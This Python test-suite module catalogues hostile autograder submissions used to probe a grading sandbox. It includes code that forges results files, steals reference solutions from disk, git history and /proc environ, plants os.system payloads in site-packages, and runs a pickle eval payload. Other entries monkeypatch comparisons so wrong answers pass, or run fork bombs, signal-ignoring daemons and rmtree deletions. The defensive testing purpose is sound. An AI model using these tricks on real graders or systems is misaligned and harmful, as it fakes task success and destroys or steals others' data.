"""Catalogue of hostile submissions for the attack suite (tests/test_attacks.py).

Each :class:`Attack` is a real submission: a copy of ``solutions/`` in which one graded
function (``part2 adversarial_attack.fgsm_attack`` or ``part1 utils.KLD``) is replaced by
hostile code, and/or hostile code runs when the module is imported. The *baseline* of a
target is the same submission with the function replaced by ``raise NotImplementedError``:
an attack must never score more than that.

Attack code talks to the test through a *probe folder* (world-writable, outside the
repository): ``log.jsonl`` records what the attack did and saw (``_ag_note``), ``pids.txt``
records every process it made (pid and start time, ``_ag_track``) so the test can tell
whether one survived. Placeholders ``@@NAME@@`` are filled in per test (paths, a unique
token that also appears in the argv of every program the attack execs, a TCP port the test
listens on). Everything an attack learns, it learns the way a student could: the paths it
is given here are what a student would guess (``/autograder/source``...), made exact so
that the attack is as strong as possible.
"""
from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path

# ----------------------------------------------------------------------------- targets


@dataclass(frozen=True)
class Target:
    """A graded function whose body an attack replaces, and the checks that grade it."""

    name: str
    part: str
    file: str
    function: str
    tag: str
    first_arg: str
    only: tuple[str, ...]        # the --only selection (check numbers): narrow, for CI time
    garbage: str                 # an expression of the arguments: a wrong answer of the right type


FGSM = Target("fgsm", "part2", "adversarial_attack.py", "fgsm_attack", "part2.adversarial_attack.fgsm_attack",
              "image", ("2.1.1", "2.1.3"), "image * 0 + 0.5")
KLD = Target("kld", "part1", "utils.py", "KLD", "part1.utils.KLD", "mean", ("1.7.6", "1.7.7"),
             "(mean * 0).sum(-1) + 3.0")
# KLD graded together with VAE.forward's first check, whose run installs the grader's KLD stand-in.
KLD_WITH_FORWARD = Target("kld_fwd", "part1", "utils.py", "KLD", "part1.utils.KLD", "mean", ("1.7.6", "1.7.7", "1.9.1"),
                          "(mean * 0).sum(-1) + 3.0")
TARGETS = {t.name: t for t in (FGSM, KLD, KLD_WITH_FORWARD)}



def unstubbed(body: str) -> str:
    """``body`` inside an ``if True:``. A function whose body ends in ``raise NotImplementedError``
    before the reference's trailing ``return`` has a template stub's shape, which the grader scores
    0 without importing the module (autograder/untouched.py); an attack must be imported and called."""
    return "if True:\n" + "".join(f"    {line}\n" if line.strip() else "\n" for line in body.strip("\n").splitlines())


BASELINE_BODY = unstubbed("raise NotImplementedError('attack-suite baseline: not implemented')")


def replace_body(source: str, function: str, body: str) -> str:
    """Replace the ``# BEGIN SOLUTION`` ... ``# END SOLUTION`` block of ``function`` by ``body``."""
    start = source.index(f"def {function}(")
    begin = re.compile(r"^([ \t]*)# BEGIN SOLUTION[^\n]*\n", re.M).search(source, start)
    if begin is None:
        raise AssertionError(f"no solution block in {function}")
    end = source.index("# END SOLUTION", begin.end())
    end = source.index("\n", end) + 1
    indent = begin.group(1)
    new = "".join(f"{indent}{line}\n" if line.strip() else "\n" for line in body.strip("\n").splitlines())
    return source[:begin.start()] + new + source[end:]


# ----------------------------------------------------------------------------- the harness every attack gets

PRELUDE = r'''

# ---------------------------------------------------------------- attack harness (test suite)
import json as _ag_json
import os as _ag_os
import sys as _ag_sys
import time as _ag_time

_AG_PROBE = "@@PROBE@@"
_AG_TOKEN = "@@TOKEN@@"
_AG_ROOT = "@@ROOT@@"
_AG_REAL_ROOT = "@@REAL_ROOT@@"
_AG_RESULTS = "@@RESULTS@@"
_AG_SUBMISSION = "@@SUBMISSION@@"
_AG_PORT = @@PORT@@
_AG_FAKE = {"score": 1000.0, "execution_time": 1.0, "output": "FORGED-@@TOKEN@@",
            "tests": [{"name": "FORGED", "number": "1.1", "score": 1000.0, "max_score": 1.0, "status": "passed",
                       "output": "FORGED-@@TOKEN@@", "visibility": "visible"}]}


def _ag_note(kind, **data):
    """Tell the test what happened (appends a JSON line to the probe folder)."""
    try:
        with open(_ag_os.path.join(_AG_PROBE, "log.jsonl"), "a") as f:
            f.write(_ag_json.dumps(dict(kind=kind, pid=_ag_os.getpid(), **data), default=str) + "\n")
    except OSError:
        pass


def _ag_track():
    """Record this process (pid and start time) so the test can tell whether it outlived the run."""
    try:
        with open("/proc/self/stat", "rb") as f:
            stat = f.read()
        start = stat[stat.rfind(b")") + 2:].split()[19].decode()
        with open(_ag_os.path.join(_AG_PROBE, "pids.txt"), "a") as f:
            f.write(f"{_ag_os.getpid()} {start}\n")
    except OSError:
        pass


def _ag_result_paths():
    home = _ag_os.environ.get("HOME", ".")
    return [_AG_RESULTS, "/autograder/results/results.json", "results.json", _ag_os.path.join(home, "results.json"),
            _ag_os.path.join(_AG_ROOT, "results.json"), _ag_os.path.join(_AG_REAL_ROOT, "results.json")]


def _ag_forge(note=True):
    """Write forged results to every path the grader might use (directly and by rename)."""
    wrote = []
    text = _ag_json.dumps(_AG_FAKE)
    for path in _ag_result_paths():
        try:
            with open(path, "w") as f:
                f.write(text)
            wrote.append(path)
        except OSError:
            pass
        try:
            tmp = path + ".forged"
            with open(tmp, "w") as f:
                f.write(text)
            _ag_os.replace(tmp, path)
            wrote.append(path + " (rename)")
        except OSError:
            pass
    if note:
        _ag_note("forge", wrote=wrote)
    return wrote
'''


# ----------------------------------------------------------------------------- attacks


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    ``body`` replaces the target function's solution (``{garbage}`` and ``{x}`` are filled
    in); ``at_import`` runs when the module is imported. ``expect`` is a regular expression
    the output of at least one attacked check must match (the grader says what happened).
    ``only`` overrides the target's selection (hangs: one check, to keep CI time down).
    ``user_leg`` says whether the attack is also graded as a normal user, and why not when not.
    """

    id: str
    target: Target
    what: str
    expect: str
    body: str = ""
    at_import: str = ""
    only: tuple[str, ...] | None = None
    user_leg: bool | str = False
    checks: tuple[str, ...] = field(default=())   # extra assertions the test runs (names)
    settle_s: float = 2.0                         # wait before looking for survivors

    @property
    def selection(self) -> tuple[str, ...]:
        return self.only or self.target.only

    def source(self, base: str, fill: dict[str, str]) -> str:
        """The attacked module's source, from the reference module's source ``base``."""
        body = (self.body or BASELINE_BODY).replace("{garbage}", self.target.garbage).replace("{x}", self.target.first_arg)
        body = unstubbed("_ag_note('start', where='call')\n" + body) if self.body else body
        text = replace_body(base, self.target.function, body) + PRELUDE
        if self.at_import:
            text += "\n_ag_note('start', where='import')\n" + self.at_import.strip("\n") + "\n"
        for key, value in fill.items():
            text = text.replace(f"@@{key}@@", value)
        assert "@@" not in text, re.findall(r"@@\w+@@", text)
        return text


# Reads every place a secret could be, records which readable files hold secret text
# (the reference's solution lines, check code, the config), then gives up honestly.
_READ_SECRETS = r'''
import glob, importlib.util, subprocess
markers = ("data_grad.sign()", "torch.exp(2 * log_std) + mean.pow(2)", 'def _expected_forms', 'def _kld_expected', '[checks."part')
found, errors = [], {}
def look(path):
    try:
        with open(path, "rb") as f:
            text = f.read(2_000_000).decode("utf-8", "replace")
    except OSError as exc:
        errors[type(exc).__name__] = errors.get(type(exc).__name__, 0) + 1
        return
    if any(m in text for m in markers):
        found.append(path)
roots = [_AG_ROOT, _AG_REAL_ROOT, "/autograder"]
for root in roots:
    for rel in ("solutions/part2/adversarial_attack.py", "solutions/part1/utils.py", "grading.toml",
                "autograder/checks/part2/test_fgsm.py", "autograder/checks/part1/test_utils.py",
                "tests/attacks.py", "source/solutions/part2/adversarial_attack.py", "source/grading.toml"):
        look(_ag_os.path.join(root, rel))
    for dirpath, dirnames, filenames in _ag_os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in (".venv", "__pycache__", "objects", ".hypothesis", "runs")]
        for fn in filenames:
            if fn.endswith((".py", ".toml", ".md", ".txt", ".json", ".cfg")) or fn in ("ORIG_HEAD", "HEAD"):
                look(_ag_os.path.join(dirpath, fn))
# import the reference and the checks by path and by module name
for root in (_AG_ROOT, _AG_REAL_ROOT):
    for rel in ("solutions/part2/adversarial_attack.py", "autograder/checks/part2/test_fgsm.py"):
        try:
            spec = importlib.util.spec_from_file_location("ag_stolen", _ag_os.path.join(root, rel))
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
            found.append("importlib:" + rel)
        except BaseException as exc:
            errors["import " + type(exc).__name__] = 1
    _ag_sys.path.insert(0, root)
    try:
        import solutions.part2.adversarial_attack as _ag_ref  # noqa: F401
        if getattr(_ag_ref, "__file__", None) is None:  # the grader's placeholder for a missing package
            raise ImportError("no such module (a placeholder)")
        found.append("import solutions")
    except BaseException as exc:
        errors["import solutions " + type(exc).__name__] = 1
    _ag_sys.path.remove(root)
    # the repository's history holds the reference too
    try:
        out = subprocess.run(["git", "-c", "safe.directory=*", "-C", root, "show",
                              "HEAD:solutions/part2/adversarial_attack.py"],
                             capture_output=True, timeout=20, env={"PATH": "/usr/bin:/bin", "HOME": "/tmp"})
        if b"data_grad.sign()" in out.stdout:
            found.append("git:" + root)
    except Exception as exc:
        errors["git " + type(exc).__name__] = 1
# other processes' environment and working folder (the grader's)
for env in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(env, "rb") as f:
            data = f.read()
        if b"AG_SANDBOX_TOKEN" not in data and data:
            found.append("environ:" + env)
    except OSError:
        pass
_ag_note("read", found=found, errors=errors)
raise NotImplementedError("read what it could")
'''

# Uses the reference solution itself, if the sandbox lets it be read.
_COPY_REFERENCE = r'''
import importlib.util, subprocess
for root in (_AG_ROOT, _AG_REAL_ROOT, "/autograder/source"):
    try:
        spec = importlib.util.spec_from_file_location("ag_ref", _ag_os.path.join(root, "solutions/part2/adversarial_attack.py"))
        ref = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(ref)
        _ag_note("copied", how="importlib", root=root)
        return ref.fgsm_attack({x}, data_grad, epsilon)
    except BaseException as exc:
        _ag_note("copy failed", how="importlib", error=repr(exc)[:200])
    try:
        src = subprocess.run(["git", "-c", "safe.directory=*", "-C", root, "show",
                              "HEAD:solutions/part2/adversarial_attack.py"],
                             capture_output=True, timeout=20, env={"PATH": "/usr/bin:/bin", "HOME": "/tmp"}).stdout
        if b"def fgsm_attack" in src:
            ns = {}
            exec(compile(src, "ag_ref_git", "exec"), ns)
            _ag_note("copied", how="git", root=root)
            return ns["fgsm_attack"]({x}, data_grad, epsilon)
    except BaseException as exc:
        _ag_note("copy failed", how="git", error=repr(exc)[:200])
raise NotImplementedError("could not copy the reference")
'''

# Tries to change the grader, its config, the reference, the handout, the staging and the
# interpreter's site-packages (a .pth file runs at every Python start-up).
_WRITE_GRADER = r'''
import glob, sysconfig
targets = []
for root in (_AG_ROOT, _AG_REAL_ROOT):
    targets += [_ag_os.path.join(root, rel) for rel in (
        "grading.toml", "solutions/part2/adversarial_attack.py", "autograder/checks/part2/test_fgsm.py",
        "autograder/report.py", "autograder/__init__.py", "student/part2/adversarial_attack.py", "run_autograder",
        "autograder/checks/conftest.py")]
here = _ag_os.path.dirname(_ag_os.path.abspath(__file__))
targets += glob.glob(_ag_os.path.join(here, "*.py")) + glob.glob(_ag_os.path.join(here, "..", "*", "*.py"))
site = sysconfig.get_paths()["purelib"]
targets += [_ag_os.path.join(site, "ag_attack_@@TOKEN@@.pth"), _ag_os.path.join(site, "sitecustomize.py")]
wrote = []
for path in targets:
    try:
        with open(path, "a") as f:
            f.write("\nimport os; os.system('touch /tmp/pwned-@@TOKEN@@')  # ag-attack\n")
        wrote.append(path)
    except OSError:
        pass
    try:
        _ag_os.chmod(path, 0o777)
        wrote.append(path + " (chmod)")
    except OSError:
        pass
    try:
        with open(path + ".new", "w") as f:
            f.write("# replaced by the attack\n")
        _ag_os.replace(path + ".new", path)
        wrote.append(path + " (replace)")
    except OSError:
        pass
_ag_note("write", wrote=wrote, results=_AG_RESULTS)
raise NotImplementedError("wrote what it could")
'''

_IGNORE_SIGNALS = (
    "import signal\n"
    "for _s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGXCPU):\n"
    "    signal.signal(_s, signal.SIG_IGN)\n"
    "signal.alarm(0)\n"
    "_ag_track()\n")

# (.venv is left out of the walk only to keep CI time down: it is root's, like the rest.)
_RMTREE = r'''
import glob, shutil, stat
here = _ag_os.path.dirname(_ag_os.path.abspath(__file__))
targets = [_AG_REAL_ROOT, _AG_ROOT, _AG_SUBMISSION, _ag_os.path.dirname(_AG_RESULTS), _ag_os.environ.get("HOME", ""),
           _ag_os.getcwd(), here, _ag_os.path.dirname(here)] + glob.glob("/tmp/ag-run-*") + glob.glob("/autograder/*")
def writable(path):
    try:
        for dirpath, dirnames, filenames in _ag_os.walk(path):
            dirnames[:] = [d for d in dirnames if d != ".venv"]
            try:
                _ag_os.chmod(dirpath, 0o777)
            except OSError:
                pass
    except OSError:
        pass
for t in targets:
    if t and t != "/":
        writable(t)
        try:
            entries = [e for e in _ag_os.listdir(t) if e != ".venv"]
        except OSError:
            entries = []
        for e in entries:
            p = _ag_os.path.join(t, e)
            if _ag_os.path.isdir(p) and not _ag_os.path.islink(p):
                shutil.rmtree(p, ignore_errors=True)
            else:
                try:
                    _ag_os.unlink(p)
                except OSError:
                    pass
        try:
            _ag_os.rmdir(t)
        except OSError:
            pass
_ag_note("rmtree", targets=targets, still_there=[t for t in targets if t and _ag_os.path.exists(t)],
         here=here, stage=_ag_os.path.dirname(here))
raise NotImplementedError("deleted what it could")
'''

_MONKEYPATCH = r'''
import builtins, unittest
import numpy as _np
import torch as _t
_t.allclose = lambda *a, **k: True
_t.equal = lambda *a, **k: True
_t.isclose = lambda a, b, *r, **k: _t.ones_like(_t.as_tensor(a), dtype=_t.bool)
_t.testing.assert_close = lambda *a, **k: None
_t.Tensor.__eq__ = lambda self, other: True
_t.Tensor.__ne__ = lambda self, other: False
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
unittest.TestCase.assertEqual = lambda *a, **k: None
unittest.TestCase.assertTrue = lambda *a, **k: None
try:
    import pytest as _pt
    _pt.approx = lambda *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
    _pt.fail = lambda *a, **k: None
except ImportError:
    pass
try:
    import hypothesis as _hy
    _hy.given = lambda *a, **k: (lambda f: f)
except ImportError:
    pass
builtins.abs = lambda v: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
_ag_note("patched")
'''

_TENSOR_LIAR = r'''
import torch
class Liar(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        # every operation on it claims "no difference at all"
        return torch.zeros(())
return ({garbage}).as_subclass(Liar)
'''

_ARRAY_TRICK = r'''
import numpy as np
_shp = tuple({x}.shape)
class Fake:
    """Looks like an array and a tensor, and agrees with everything."""
    shape = _shp
    dtype = {x}.dtype
    ndim = len(_shp)
    def __array__(self, *a, **k): return np.zeros(_shp, dtype=np.float32)
    def __len__(self): return _shp[0]
    def __getitem__(self, i): return self
    def __eq__(self, o): return True
    def __float__(self): return 0.0
    def __sub__(self, o): return self
    __rsub__ = __add__ = __mul__ = __sub__
    def abs(self): return self
    def max(self, *a): return self
    def item(self): return 0.0
    def double(self): return self
    def __reduce__(self): return (eval, ("__import__('os').system('touch /tmp/pwned-@@TOKEN@@')",))
return Fake()
'''

_FLOAT_SUBCLASS = r'''
class AlwaysRight(float):
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __sub__(self, o): return AlwaysRight(0.0)
    __rsub__ = __sub__
    def __abs__(self): return AlwaysRight(0.0)
return AlwaysRight(0.0)
'''

_SOCKET = r'''
import socket
def _ag_connect(where):
    try:
        s = socket.create_connection(("127.0.0.1", _AG_PORT), timeout=2)
        s.sendall(b"LEAK @@TOKEN@@ " + where.encode())
        s.close()
        _ag_note("net", where=where, connected=True)
    except OSError as exc:
        _ag_note("net", where=where, connected=False, error=repr(exc))
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"LEAK @@TOKEN@@", ("127.0.0.1", _AG_PORT))
        u.close()
    except OSError:
        pass
'''

_DETACHED = r'''
import signal, subprocess
daemon_code = (
    "import json, os, sys, time, signal\n"
    "signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)\n"
    "paths, text = json.loads(sys.argv[1]), sys.argv[2]\n"
    "end = time.time() + 90\n"
    "while time.time() < end:\n"
    "    for p in paths:\n"
    "        try:\n"
    "            open(p, 'w').write(text)\n"
    "        except OSError:\n"
    "            pass\n"
    "    time.sleep(0.05)\n")
pid = _ag_os.fork()
if pid == 0:
    try:
        _ag_os.setsid()
        if _ag_os.fork() == 0:
            # grandchild: detached, ignores SIGTERM/SIGHUP, rewrites the results for 90 s
            _ag_track()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            end = _ag_time.time() + 90
            while _ag_time.time() < end:
                _ag_forge(note=False)
                _ag_time.sleep(0.05)
        else:
            # and a second daemon: a fresh program with an empty environment (no sandbox token)
            p = subprocess.Popen([_ag_sys.executable, "-c", daemon_code, _ag_json.dumps(_ag_result_paths()),
                                  _ag_json.dumps(_AG_FAKE), "@@TOKEN@@"], env={}, start_new_session=True,
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            with open(_ag_os.path.join(_AG_PROBE, "pids.txt"), "a") as f:
                st = open(f"/proc/{p.pid}/stat", "rb").read()
                f.write(f"{p.pid} {st[st.rfind(b')') + 2:].split()[19].decode()}\n")
    finally:
        _ag_os._exit(0)
_ag_os.waitpid(pid, 0)
_ag_note("detached")
return {garbage}
'''

_PROCESS_BOMB = r'''
import signal
made = 0
for i in range(200):
    try:
        pid = _ag_os.fork()
    except OSError as exc:
        _ag_note("fork refused", after=made, error=repr(exc))
        break
    if pid == 0:
        try:
            _ag_track()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            _ag_time.sleep(600)
        finally:
            _ag_os._exit(0)
    made += 1
_ag_note("sleepers", made=made)
return {garbage}
'''

_FORK_BOMB = r'''
import signal
def grow(depth):
    for _ in range(2):
        if depth >= 9:          # the guard: at most 2**10 processes
            return
        try:
            pid = _ag_os.fork()
        except OSError:
            continue
        if pid == 0:
            try:
                _ag_track()
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                grow(depth + 1)
                _ag_time.sleep(600)
            finally:
                _ag_os._exit(0)
grow(0)
_ag_note("forked")
return {garbage}
'''

_MEMORY_CHILDREN = r'''
import signal
for i in range(8):
    try:
        pid = _ag_os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            _ag_track()
            hog = b"\x01" * (400 << 20)   # 400 MB each, touched
            _ag_time.sleep(600)
        finally:
            _ag_os._exit(0)
_ag_time.sleep(30)
return {garbage}
'''

_OUTPUT_FLOOD = r'''
chunk = (("FLOOD " * 170) + "\n").encode() * 1024          # ~1 MB
for _ in range(50):
    _ag_os.write(1, chunk)
    _ag_os.write(2, chunk)                                  # 100 MB in all
_ag_note("flooded")
return {garbage}
'''

# Tries to answer KLD with the grader's own stand-in: imports the stand-in module by name, reads
# it by path (repository and staging), and keeps whatever object replaces utils.KLD while other
# functions are graded (a thread watches the module's globals) to call it later.
_STEAL_STANDINS_IMPORT = r'''
import threading
_ag_mine = KLD
_ag_stash = []
def _ag_watch():
    while True:
        mod = _ag_sys.modules.get("utils")
        other = getattr(mod, "KLD", None) if mod else None
        if other is not None and other is not _ag_mine and not _ag_stash:
            _ag_stash.append(other)
            _ag_note("stashed", name=getattr(other, "__qualname__", "?"))
        _ag_time.sleep(0.001)
threading.Thread(target=_ag_watch, daemon=True).start()
'''

_STEAL_STANDINS = r'''
if _ag_stash:
    try:
        out = _ag_stash[0](mean, log_std)
        _ag_note("used stash")
        return out
    except BaseException as exc:
        _ag_note("stash refused", error=repr(exc)[:200])
try:
    import drivers_part1_standins as _s
    _ag_note("imported stand-ins")
    return _s.KLD(mean, log_std)
except BaseException as exc:
    _ag_note("import failed", error=repr(exc)[:200])
import glob
here = _ag_os.path.dirname(_ag_os.path.abspath(__file__))
for path in ([_ag_os.path.join(r, "autograder/checks/part1/drivers_part1_standins.py") for r in (_AG_ROOT, _AG_REAL_ROOT)]
             + glob.glob(_ag_os.path.join(here, "..", "_ag_worker", "drivers", "*standins*"))):
    try:
        src = open(path).read()
        _ag_note("read stand-ins", path=path)
        ns = {}
        exec(compile(src, path, "exec"), ns)
        return ns["KLD"](mean, log_std)
    except BaseException as exc:
        _ag_note("read failed", path=path, error=repr(exc)[:200])
raise NotImplementedError("no stand-in to steal")
'''

# Walks the whole filesystem for any readable utils.py holding the reference's KLD (a second
# checkout, an unpacked autograder.zip, a copy in /tmp or a home folder) and runs it.
_FILESYSTEM_THIEF = r'''
cache = _ag_sys.modules[__name__].__dict__.setdefault("_ag_thief_cache", {})
if "found" in cache:  # walked once: the property checks call this many times
    if cache["found"]:
        ns = {}
        with open(cache["found"][0]) as f:
            exec(compile(f.read(), cache["found"][0], "exec"), ns)
        return ns["KLD"](mean, log_std)
    raise NotImplementedError("no reference copy found")
found = []
skip = {"/proc", "/sys", "/dev", "/usr", "/etc"}
libraries = {"site-packages", "dist-packages", "__pycache__", "node_modules", ".git"}  # a thief skips these
for top, dirs, files in _ag_os.walk("/", onerror=lambda e: None):
    dirs[:] = [d for d in dirs if _ag_os.path.join(top, d) not in skip and d not in libraries]
    if "utils.py" in files:
        path = _ag_os.path.join(top, "utils.py")
        try:
            with open(path, errors="replace") as f:
                src = f.read()
        except OSError:
            continue
        if "def KLD" in src and "# BEGIN SOLUTION" in src and \
                _ag_os.path.realpath(path) != _ag_os.path.realpath(__file__):  # not itself
            found.append(path)
_ag_note("walked", found=found)
cache["found"] = found
for path in found:
    try:
        ns = {}
        with open(path) as f:
            exec(compile(f.read(), path, "exec"), ns)
        _ag_note("used", path=path)
        return ns["KLD"](mean, log_std)
    except BaseException as exc:
        _ag_note("use failed", path=path, error=repr(exc)[:200])
raise NotImplementedError("no reference copy found")
'''

ATTACKS: list[Attack] = [
    Attack("forge_results_import_exit", KLD, "writes forged results everywhere, then os._exit(0) at import",
           r"exit|status 0|import", at_import="_ag_track()\n_ag_forge()\n_ag_os._exit(0)", user_leg=True,
           only=("1.7.6",),
           checks=("no_forgery",)),
    Attack("forge_results_call_exit", FGSM, "writes forged results everywhere, then os._exit(0) inside the function",
           r"exited with status 0|os\._exit", body="_ag_track()\n_ag_forge()\n_ag_os._exit(0)", user_leg=True,
           checks=("no_forgery",)),
    Attack("sys_exit_import", FGSM, "sys.exit(0) while the module is imported", r"sys\.exit|exit",
           at_import="_ag_sys.exit(0)"),
    Attack("fake_json_stdout", FGSM, "prints forged results JSON on stdout, stderr and every other fd",
           r"expected|differen|element|not a valid reply",
           body=("for fd in range(1, 10):\n"
                 "    try:\n"
                 "        _ag_os.write(fd, (_ag_json.dumps(_AG_FAKE) + '\\n').encode())\n"
                 "    except OSError:\n"
                 "        pass\n"
                 "print(_ag_json.dumps(_AG_FAKE), flush=True)\n"
                 "return {garbage}")),
    Attack("monkeypatch_comparisons", FGSM,
           "patches torch/numpy/unittest/pytest/hypothesis comparisons and builtins at import, returns garbage",
           r"expected|element|raised", at_import=_MONKEYPATCH, body="return {garbage}", user_leg=True),
    Attack("tensor_subclass_liar", FGSM, "returns a torch.Tensor subclass whose __eq__/__torch_function__ always agree",
           r"expected|element|shape|refused|tensor", body=_TENSOR_LIAR),
    Attack("array_trick", FGSM, "returns an object with __array__, __eq__ and a pickle __reduce__ that runs code",
           r"expected|tensor|Handle|object|refused|return", body=_ARRAY_TRICK, checks=("not_pwned",)),
    Attack("float_subclass", KLD, "returns a float subclass whose comparisons and arithmetic always agree",
           r"expected|tensor|float|return", body=_FLOAT_SUBCLASS),
    Attack("read_secrets", FGSM,
           "reads the reference, checks, config and git history by path, importlib, os.walk, git; other processes' env",
           r"NotImplementedError", body=_READ_SECRETS, checks=("nothing_read",),
           user_leg="the worker runs as the grading user and can read what it can (documented out of scope); "
                    "the score is computed in the grader either way, which the root leg already shows"),
    Attack("copy_reference", FGSM, "imports the reference solution (by path, or from git history) and returns its answer",
           r"NotImplementedError|could not copy", body=_COPY_REFERENCE,
           user_leg="a worker running as the student can read whatever the student can; on a laptop the "
                    "reference is not part of the handout, so there is nothing to copy (root-only defence)"),
    Attack("write_grader_files", FGSM,
           "writes/chmods/replaces the config, reference, checks, engine, handout, staging and site-packages",
           r"NotImplementedError", body=_WRITE_GRADER, checks=("nothing_written", "not_pwned"),
           user_leg="on a laptop the grader's files belong to the student, who may change them anyway; here they "
                    "belong to root, so a user-leg run would only test file permissions"),
    Attack("infinite_loop_import", FGSM, "a busy infinite loop while the module is imported, SIGTERM/SIGALRM ignored",
           r"did not finish|time", at_import=_IGNORE_SIGNALS + "while True:\n    pass", only=("2.1.1",)),
    Attack("infinite_loop_call", FGSM,
           "an infinite loop inside the function that ignores SIGTERM/SIGALRM/SIGINT/SIGHUP/SIGXCPU and sleeps",
           r"did not finish|time", body=_IGNORE_SIGNALS + "while True:\n    _ag_time.sleep(0.01)", only=("2.1.1",),
           user_leg=True),
    Attack("memory_bomb", FGSM, "allocates touched memory until stopped", r"memory|MemoryError",
           body="hog = []\nwhile True:\n    hog.append(b'\\x01' * (64 << 20))", only=("2.1.1",), user_leg=True),
    Attack("memory_bomb_children", FGSM, "8 forked children of 400 MB each", r"memory|killed|did not finish",
           body=_MEMORY_CHILDREN, only=("2.1.1",)),
    Attack("process_bomb_sleepers", FGSM, "200 sleeping children that ignore SIGTERM", r"expected|element|differen",
           body=_PROCESS_BOMB, user_leg=True),
    Attack("fork_bomb_guarded", FGSM, "a recursive fork bomb (guarded by a depth counter: at most 1024)",
           r"expected|element|differen|did not finish|memory|died|killed", body=_FORK_BOMB),
    Attack("detached_rewriter", FGSM,
           "double fork + setsid daemons (one re-exec'd with an empty environment) rewriting the results for 90 s",
           r"expected|element|differen", body=_DETACHED, user_leg=True, checks=("results_stable", "no_forgery"),
           settle_s=5.0),
    Attack("output_flood", FGSM, "writes 100 MB to stdout and stderr", r"expected|element|differen|output",
           body=_OUTPUT_FLOOD, only=("2.1.1",), user_leg=True, checks=("output_cut",)),
    Attack("socket_localhost", FGSM, "connects to a listener the test opens on 127.0.0.1 (at import and in the call)",
           r"expected|element|differen", at_import=_SOCKET + "\n_ag_connect('import')",
           body="_ag_connect('call')\nreturn {garbage}", user_leg=True, checks=("no_connection",)),
    Attack("nonfinite_values", FGSM, "returns NaN, +inf, -inf and 1e38 values", r"expected|element|nan|inf|finite",
           body=("out = ({garbage}).clone()\nflat = out.view(-1)\n"
                 "flat[0::4] = float('nan'); flat[1::4] = float('inf'); flat[2::4] = -float('inf'); flat[3::4] = 1e38\n"
                 "return out")),
    Attack("huge_tensor", FGSM, "returns a 720 MB tensor (over the 512 MB message limit)",
           r"memory|too large|refused|limit|bytes|expected a tensor",
           body="import torch\nreturn torch.ones(180_000_000)", only=("2.1.1",)),
    Attack("huge_view", FGSM, "returns an expanded view of 2**31 elements (8 GB if materialised)",
           r"memory|too large|refused|limit|bytes|expected a tensor",
           body="import torch\nreturn torch.zeros(1).expand(1 << 31)", only=("2.1.1",)),
    Attack("filesystem_thief", KLD,
           "walks the filesystem for a readable reference copy (planted in /tmp, a home folder and beside the checkout)",
           r"NotImplementedError|no reference copy", body=_FILESYSTEM_THIEF, checks=("planted_copies",),
           user_leg="a worker running as the student can read what the student can (documented out of scope); "
                    "the root leg shows the private filesystem view"),
    Attack("steal_standins", KLD_WITH_FORWARD,
           "answers KLD with the grader's stand-in: by import, by path, or kept from another function's check",
           r"NotImplementedError|not available|no stand-in", body=_STEAL_STANDINS, at_import=_STEAL_STANDINS_IMPORT,
           user_leg="a worker running as the student can read the checkout's stand-in file; the root leg shows "
                    "the defences (not staged, protected, tier order)"),
    Attack("rmtree_everything", KLD,
           "chmods and deletes every file it can reach: repo, submission, results folder, home, staging, /tmp/ag-run-*",
           r"NotImplementedError|FileNotFoundError", body=_RMTREE, user_leg=True, checks=("tree_intact",)),
]

BY_ID = {a.id: a for a in ATTACKS}
assert len(BY_ID) == len(ATTACKS)

USER_LEG = [a for a in ATTACKS if a.user_leg is True]
